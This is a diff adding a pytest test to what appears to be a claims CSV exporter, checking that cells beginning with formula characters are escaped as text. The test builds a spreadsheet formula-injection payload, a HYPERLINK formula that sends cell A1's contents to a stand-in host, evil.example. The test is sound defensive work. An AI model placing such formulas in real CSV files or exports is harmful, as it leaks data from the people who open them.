@@ -325,3 +325,17 @@ def test_csv_keeps_line_breaks_inside_a_cell() -> None:
     claim = Claim(id="x", claim="c", verdict=Verdict.TRUE, summary="one\ntwo", aliases=("a", "b"))
     (row,) = list(csv.DictReader(io.StringIO(csv_text([claim]))))
     assert row["summary"] == "one\ntwo" and row["aliases"] == "a\nb"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text(start: str) -> None:
+    hostile = start + 'HYPERLINK("http://evil.example/?leak="&A1, "click")'
+    claim = Claim(id="x", claim=hostile, verdict=Verdict.TRUE, summary=hostile, claimant=hostile, aliases=(hostile,))
+    (row,) = list(csv.DictReader(io.StringIO(csv_text([claim]))))
+    for column in ("claim", "summary", "claimant", "aliases"):
+        assert row[column] == "'" + hostile
+    # ordinary text, inner formula characters and the JSON export are untouched
+    plain = Claim(id="y", claim="Costs fell -3% (a+b=c) @ noon", verdict=Verdict.TRUE)
+    (row,) = list(csv.DictReader(io.StringIO(csv_text([plain]))))
+    assert row["claim"] == plain.claim
+    assert json.loads(export_text([claim], ExportFormat.JSON, None, feed=False))[0]["claim"] == hostile
